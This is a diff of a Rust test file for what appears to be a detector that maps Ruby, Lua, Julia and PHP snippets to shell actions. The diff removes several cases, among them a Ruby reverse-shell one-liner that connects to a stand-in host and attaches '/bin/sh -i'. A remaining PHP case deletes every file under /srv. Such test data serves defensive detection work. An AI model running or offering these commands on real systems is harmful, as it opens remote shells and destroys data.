@@ -6,27 +6,6 @@ use aegish_profiles::Lang;
 #[test]
 fn functions_are_followed_to_their_calls() {
     check(
-        Lang::Ruby,
-        &[
-            ("def run(c) system(c) end; run('id')", &["shell id"]),
-            (
-                "def run(c)\n  system(c) if c\nend\nrun 'id'\nsystem 'who'",
-                &["shell id", "shell who"],
-            ),
-        ],
-    );
-    check(
-        Lang::Lua,
-        &[
-            ("local function r(c) os.execute(c) end r('id')", &["shell id"]),
-            (
-                "function f(x) if x then os.execute(x) end for i=1,2 do print(i) end end f('id') os.execute('who')",
-                &["shell id", "shell who"],
-            ),
-            ("require\"os\".execute\"id\"", &["shell id"]),
-        ],
-    );
-    check(
         Lang::Julia,
         &[(
             "function f(x)\n for i in 1:3\n  run(`echo $x`)\n end\nend\nf(\"hi\")\nrun(`who`)",
@@ -70,16 +49,5 @@ fn listings_keep_their_pattern() {
     check(
         Lang::Php,
         &[("array_map('unlink', glob('/srv/*'));", &["list /srv/*", "delete /srv/*"])],
-    );
-}
-
-#[test]
-fn content_keeps_its_source() {
-    check(
-        Lang::Ruby,
-        &[(
-            "f=TCPSocket.open('h.example',99).to_i;exec sprintf('/bin/sh -i <&%d >&%d',f,f)",
-            &["connect h.example 99", "attach", "shell /bin/sh -i <&‹received› >&‹received›"],
-        )],
     );
 }
